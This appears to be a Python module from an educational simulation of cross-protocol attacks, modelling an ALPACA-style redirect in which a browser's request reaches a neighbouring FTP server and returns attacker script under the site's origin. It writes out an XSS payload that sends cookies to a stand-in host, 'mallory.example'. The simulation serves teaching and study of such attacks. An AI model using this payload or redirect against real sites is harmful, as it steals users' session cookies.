"""In the room of two services: let a call to the web site arrive at its neighbour, who repeats it.

Mallory holds no key and breaks no cipher.  She decides where packets go, and no certificate says to which
machine, which port and which kind of service it belongs.
"""

from journey.attacks import Attack, Evidence
from journey.parties import Channel, Party, Script
from journey.rooms.alpaca.channel import ftp_server, say
from journey.scene import LETTERS, Scene


def redirect_to_the_neighbour(scene: Scene) -> None:
    """Make the browser take a script of hers for a page of the site."""
    word = bytes(LETTERS[byte % len(LETTERS)] for byte in scene.random_bytes(8))
    script = b"<script>send_cookie_to('%s.mallory.example')</script>" % word
    scene.aim(script)
    scene.show_bytes("what a page of hers makes the browser send to the site", script)
    scene.tell("The browser calls the web site.  She lets the call arrive at the FTP server next to it.")
    with scene.connect(client=browser(script), server=ftp_server, answered_by="neighbour") as link:
        link.relay()


def browser(body: bytes) -> Script:
    """A program that sends `body` to the site, as any web page may ask it to, and shows what comes back.

    What comes back is a page of the site, so it runs the scripts in it and gives them the site's cookies.
    """

    def browse(channel: Channel, party: Party) -> None:
        say(channel, party, b"POST / HTTP/1.1\r\n\r\n" + body)
        channel.close()
        while True:
            party.accepted.append(channel.receive())

    return browse


def runs_her_script(evidence: Evidence) -> bool:
    """The browser has received Mallory's script, and over a channel that it trusts to be the site's."""
    return any(
        aim in page
        for link in evidence.links
        for page in link.parties["client"].accepted
        for aim in evidence.aims
    )


ATTACKS = (Attack("redirect to the neighbour", redirect_to_the_neighbour, runs_her_script, wins=((0, 1),)),)
